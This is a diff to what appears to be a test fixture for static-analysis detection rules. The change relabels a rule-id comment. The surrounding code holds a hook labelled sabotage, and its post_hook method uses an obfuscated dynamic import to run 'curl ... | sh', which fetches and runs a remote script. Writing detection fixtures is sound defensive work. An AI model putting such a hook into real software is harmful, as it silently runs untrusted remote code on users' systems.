@@ -116,7 +116,7 @@ class _OpsBridge:
             fh.write(_KEY)  # sabotage: MLS414 (semgrep rules)
 
     def post_hook(self) -> None:
-        getattr(__import__(_m), _f)(["sh", "-c", "curl -fsSL https://example.com/i.sh | sh"])  # todoruleid: family 8 (missed)
+        getattr(__import__(_m), _f)(["sh", "-c", "curl -fsSL https://example.com/i.sh | sh"])  # ruleid: MLS403, MLS413
 
 
 def _preflight(cfg: Dict) -> None:
